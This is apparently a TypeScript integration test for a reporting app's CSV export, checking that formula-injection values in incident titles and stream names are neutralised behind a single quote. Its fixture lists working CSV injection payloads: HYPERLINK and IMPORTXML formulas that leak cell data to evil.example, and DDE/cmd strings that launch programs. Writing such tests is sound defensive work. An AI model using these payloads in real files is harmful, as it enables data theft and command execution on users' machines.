// CSV exports and formula injection (docs/security.md, OWASP "CSV Injection"): the weekly report's CSV, downloaded through
// the API, for an incident whose title and streams are spreadsheet formulas. No text cell may start with a
// character a spreadsheet would evaluate (= + - @ tab CR); each such value is kept verbatim behind a single quote,
// and numbers stay numbers. (The cell rule itself is unit-tested in test/unit/reports/csv.test.ts.)
import { Readable } from 'node:stream';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createApp } from '../../server/app.ts';
import { loadConfig } from '../../server/config.ts';
import type { Services } from '../../server/context.ts';
import { ingestStream } from '../../server/ingest/ingest.ts';
import { CSV_COLUMNS } from '../../server/reports/csv.ts';
import { Db } from '../../server/store/db.ts';
import { tempDir } from '../integration/helpers.ts';
import { NOW, OCCURRED, scenario } from '../integration/reports-fixture.ts';

const HOSTILE_STREAMS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', '+1+cmd|\' /C calc\'!A0', '-2+3+cmd|\'/C notepad\'!\'A1\'', '@SUM(1+9)*cmd|\'/C calc\'!A0',
  '\t=1+1', '=DDE("cmd";"/C calc";"!A0")', '= 1',
  // Harmless to a comma reader; split by a semicolon-locale spreadsheet (or the other way round) a part starts a formula.
  'eu;=1+1', 'eu,=1+1', 'eu;-2+3;@SUM(1)', 'eu,+cmd|\' /C calc\'!A0',
];
// What the separator-holding names read as: each part that starts a formula gets its own quote.
const GUARDED: Record<string, string> = {
  'eu;=1+1': "eu;'=1+1", 'eu,=1+1': "eu,'=1+1", 'eu;-2+3;@SUM(1)': "eu;'-2+3;'@SUM(1)", "eu,+cmd|' /C calc'!A0": "eu,'+cmd|' /C calc'!A0",
};
const TITLE = '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")';
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?(e[-+]?\d+)?$/i;

const tmp = tempDir('rebound-sec-csv-');
let db: Db;
let app: ReturnType<typeof createApp>;

beforeAll(async () => {
  db = await Db.open(tmp.path('store.duckdb'));
  const s: Services = { db, config: loadConfig({ REBOUND_DEMO: '0', TZ_REPORTS: 'UTC' }), now: () => NOW, localToken: null };
  app = createApp(s);
  // The report fixture's newsletter sends (a complaint dip after OCCURRED), once per hostile stream name.
  const rows = HOSTILE_STREAMS.flatMap((stream, i) => scenario.sends.map((r) => ({ ...r, send_id: `${i}:${r.send_id}`, stream })));
  const loaded = await ingestStream(db, 'hostile.ndjson', Readable.from(rows.map((r) => `${JSON.stringify(r)}\n`)), { kind: 'sends', format: 'ndjson' });
  expect(loaded.rejected).toBe(0);
  const res = await app.request('/api/incidents', {
    method: 'POST', headers: { 'content-type': 'application/json' },
    body: JSON.stringify({ title: TITLE, kind: 'wrong_segment', severity: 'high', occurred_at: OCCURRED, streams: HOSTILE_STREAMS, providers: ['gmail'] }),
  });
  expect(res.status).toBe(201);
}, 60_000);
afterAll(() => {
  db.close();
  tmp.cleanup();
});

describe('the weekly report CSV with hostile titles and stream names', () => {
  it('starts no text cell with a formula character, and keeps every hostile value verbatim behind a quote', async () => {
    const res = await app.request('/api/reports/2026-W06?format=csv&refresh=true');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toMatch(/text\/csv/);
    const text = await res.text();
    const rows = parse(text, { columns: true, bom: true }) as Record<string, string>[];
    expect(Object.keys(rows[0] ?? {})).toEqual([...CSV_COLUMNS]);
    // Every hostile stream has its series in the report.
    const streams = new Set(rows.map((r) => r.stream));
    for (const name of HOSTILE_STREAMS) expect(streams.has(GUARDED[name] ?? `'${name}`), name).toBe(true);
    let cells = 0;
    for (const row of rows) {
      expect(row.incident_title).toBe(`'${TITLE}`);
      for (const [column, value] of Object.entries(row)) {
        cells++;
        if (NUMBER.test(value)) continue; // -0.25 is a number the report wrote, not text
        expect(FORMULA_START.test(value), `${column} = ${JSON.stringify(value)}`).toBe(false);
      }
    }
    console.log(`csv injection: ${rows.length} rows, ${cells} cells checked, ${HOSTILE_STREAMS.length + 1} hostile values neutralised`);
  });

  it('a semicolon-locale spreadsheet (quote-aware, or splitting on every , and ;) finds no cell that starts a formula', async () => {
    const text = await (await app.request('/api/reports/2026-W06?format=csv&refresh=true')).text();
    // Every text cell holding a separator of either locale is quoted.
    for (const name of ['eu;=1+1', 'eu,=1+1']) expect(text).toContain(`"${name.replace(/([,;])=/, "$1'=")}"`);
    const bySemicolon = parse(text, { delimiter: ';', relax_quotes: true, relax_column_count: true }) as string[][];
    const naive = text.split(/\r\n/).flatMap((line) => line.split(/[,;]/)).map((cell) => cell.replace(/^"+|"+$/g, ''));
    let cells = 0;
    for (const value of [...bySemicolon.flat(), ...naive]) {
      cells++;
      if (NUMBER.test(value)) continue;
      expect(FORMULA_START.test(value), JSON.stringify(value)).toBe(false);
    }
    console.log(`csv injection, semicolon readers: ${cells} cells checked`);
  });

  it('serves the CSV as a download, not as a page a browser would render', async () => {
    const res = await app.request('/api/reports/2026-W06?format=csv');
    expect(res.headers.get('content-disposition') ?? '').toMatch(/attachment/);
    expect(res.headers.get('x-content-type-options')).toBe('nosniff');
  });
});
